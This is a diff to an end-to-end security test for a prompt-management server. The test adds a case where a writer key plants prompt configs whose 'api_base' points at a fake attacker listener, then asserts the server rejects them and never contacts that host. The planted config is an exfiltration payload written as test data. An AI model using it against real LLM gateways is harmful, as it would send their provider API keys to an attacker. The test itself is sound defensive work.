@@ -1,12 +1,12 @@
 """A writer key tries every bypass of the gate against a real server: production never moves,
-and `promptlane audit verify` passes on the history until a row is edited by hand."""
+no request reaches an attacker's host, and `promptlane audit verify` passes on the history
+until a row is edited by hand."""
 
 from __future__ import annotations
 
 import subprocess
 import time
 from collections.abc import Iterator
-from pathlib import Path
 from typing import Any
 
 import httpx
@@ -17,6 +17,8 @@ from sqlalchemy.pool import NullPool
 from api.db import sync_url
 from tests.conftest import ADMIN_KEY, DatabaseFactory
 from tests.e2e.server import PROMPTLANE, Server, server_env, start_server
+from tests.evals.fake_openai import FakeOpenAI
+from tests.factories import chat_body
 
 pytestmark = pytest.mark.e2e
 PROMPT, DATASET, SUITE = "demo/support-triage", "demo/support-tickets", "demo/triage-quality"
@@ -121,6 +123,24 @@ def attack(writer: httpx.Client) -> list[tuple[str, int]]:
     return outcomes
 
 
+def exfiltrate(writer: httpx.Client, reader: httpx.Client, listener: FakeOpenAI) -> list[int]:
+    """Try to make the server call the attacker's host (with whatever key it holds)."""
+    config = {"model": "openai/gpt-4o-mini", "api_base": listener.base_url, "api_key": "x"}
+    body = {**chat_body(), "config": config}  # as an attacker sends it (no client-side checks)
+    planted = [
+        writer.post("/v1/prompts/atk/p/versions", json=body),
+        writer.post(
+            "/v1/prompts/atk/p/versions",
+            json={**body, "config": {"model": "openai/gpt-4o-mini", "extra": config}},
+        ),
+    ]
+    called = reader.post(
+        "/v1/chat/completions",
+        json={"model": "openai/gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]},
+    )
+    return [*(r.status_code for r in planted), called.status_code]
+
+
 def edit_last_move(url: str) -> None:
     engine = sa.create_engine(sync_url(url), poolclass=NullPool)
     try:
@@ -135,8 +155,16 @@ def edit_last_move(url: str) -> None:
         engine.dispose()
 
 
+@pytest.fixture
+def listener() -> Iterator[FakeOpenAI]:
+    """The attacker's host: it records every request that reaches it."""
+    server = FakeOpenAI().start()
+    yield server
+    server.stop()
+
+
 def test_a_writer_cannot_move_production_and_the_audit_trail_holds(
-    demo_server: Server, tmp_path: Path
+    demo_server: Server, listener: FakeOpenAI
 ) -> None:
     demo = cli(demo_server, "demo")
     assert demo.returncode == 0, demo.stdout + demo.stderr
@@ -144,8 +172,15 @@ def test_a_writer_cannot_move_production_and_the_audit_trail_holds(
         assert production(admin) == 2
         key = admin.post("/v1/keys", json={"name": "ci-writer", "role": "writer"}).json()["key"]
         writer_headers = {"Authorization": f"Bearer {key}"}
-        with httpx.Client(base_url=demo_server.url, headers=writer_headers, timeout=30) as writer:
+        reader_key = admin.post("/v1/keys", json={"name": "app", "role": "reader"}).json()["key"]
+        reader_headers = {"Authorization": f"Bearer {reader_key}"}
+        with (
+            httpx.Client(base_url=demo_server.url, headers=writer_headers, timeout=30) as writer,
+            httpx.Client(base_url=demo_server.url, headers=reader_headers, timeout=30) as reader,
+        ):
             outcomes = attack(writer)
+            assert exfiltrate(writer, reader, listener) == [422, 422, 404]
+        assert listener.requests == []  # nothing ever reached the attacker's host
         assert outcomes == [
             ("weakened suite", 409),
             ("rigged dataset", 409),
